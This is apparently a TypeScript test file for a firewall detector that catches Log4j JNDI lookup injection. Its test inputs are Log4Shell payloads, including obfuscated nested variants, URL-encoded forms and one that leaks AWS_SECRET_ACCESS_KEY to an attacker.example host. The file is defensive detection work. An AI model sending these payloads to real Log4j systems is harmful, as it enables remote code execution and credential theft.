import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inspect } from '../engine.js';
import type { Input, Location, Paranoia } from '../types.js';
import { jndiDetector, scanLookups } from './jndi.js';

function attack(value: string, location: Location = 'header', paranoia: Paranoia = 2): boolean {
  const inputs: Input[] = [{ location, name: 'user-agent', value }];
  return inspect(inputs, { paranoia, threshold: 5, exclusions: [], detectors: [jndiDetector] }).attack;
}

describe('JNDI lookups', () => {
  it('resolves nested lookups the way Log4j does', () => {
    assert.equal(scanLookups('${${lower:J}ndi:ldap://x}').jndi, true);
    assert.equal(scanLookups('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}').jndi, true);
    assert.equal(scanLookups('${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}').jndi, true);
    assert.equal(scanLookups('${${upper:j}${upper:n}di:dns://x}').obfuscated, true);
    assert.equal(scanLookups('${name}').jndi, false);
  });

  it('flags plain, nested, encoded and truncated lookups', () => {
    for (const v of [
      '${jndi:ldap://attacker.example/a}',
      '${JNDI:rmi://1.2.3.4/x}',
      '${${lower:j}ndi:ldap://x/}',
      '${${::-j}ndi:dns://x}',
      '$%7Bjndi:ldap://x%7D',
      '${j${::-n}di:ldap://x}',
      '${ jndi:ldap://x',
      '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/}',
    ])
      assert.equal(attack(v), true, v);
    assert.equal(attack('${jndi:ldap://x}', 'json'), true);
  });

  it('leaves template placeholders and shell variables alone', () => {
    for (const v of [
      'Hello ${name}',
      '${HOME}/bin',
      'price: ${amount:-0}',
      '${user.firstName} ${user.lastName}',
    ])
      assert.equal(attack(v), false, v);
    assert.equal(attack('${env:HOME}', 'header', 3), false);
  });
});
